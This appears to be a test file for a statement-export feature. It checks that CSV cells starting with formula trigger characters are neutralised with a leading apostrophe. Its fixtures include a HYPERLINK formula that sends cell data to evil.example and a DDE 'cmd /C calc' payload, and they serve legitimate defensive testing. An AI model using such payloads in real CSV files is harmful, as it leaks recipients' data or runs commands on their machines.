import { csvField } from '../../documents/csv-text.js';
import { statementCsv } from '../../portal/exports/csv.js';
import { parseCsv } from '../helpers/csv-reader.js';
import { claim, sampleStatement } from '../helpers/statement-fixture.js';

/**
 * CSV injection (OWASP): text from a claim file — a facility name, a note, a patient's name — that
 * begins with = + - @, a tab or a carriage return is run as a formula by Excel and LibreOffice when
 * the member (or a print shop, for the postcard CSV) opens the file. Every such cell is written with
 * a leading apostrophe, so the spreadsheet shows it as text.
 */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const payload = (trigger: string) => `${trigger}HYPERLINK("https://evil.example/?"&A1,"詳細")`;

test.each(TRIGGERS.map((t) => [JSON.stringify(t), t]))('a cell starting with %s is defused', (_, trigger) => {
  const [[cell]] = parseCsv(`${csvField(payload(trigger))}\r\n`);
  expect(cell).toBe(`'${payload(trigger)}`);
});

test('the statement CSV defuses every text column a claim file fills', () => {
  const claims = TRIGGERS.map((t) => claim({ facilityName: payload(t), patientName: `${t}cmd|' /C calc'!A0`, note: `${t}1+1` }));
  const rows = parseCsv(statementCsv({ ...sampleStatement(), claims }).toString('utf8').slice(1));
  const claimRows = rows.slice(rows.findIndex((r) => r[0] === '診療年月') + 1);
  expect(claimRows).toHaveLength(TRIGGERS.length);
  for (const [i, row] of claimRows.entries()) {
    expect(row[1]).toBe(`'${TRIGGERS[i]}cmd|' /C calc'!A0`);
    expect(row[4]).toBe(`'${payload(TRIGGERS[i])}`);
    expect(row[9]).toBe(`'${TRIGGERS[i]}1+1`);
  }
});

test('other text is left as it is, formula characters inside it included, and unquoted unless it must be', () => {
  for (const text of ['みなと薬局', 'A=B', '1-2', 'info@example.jp', '']) {
    expect(parseCsv(`${csvField(text)}\r\n`)[0][0]).toBe(text);
    expect(csvField(text)).toBe(text); // byte for byte: what a print shop's importer sees
  }
});
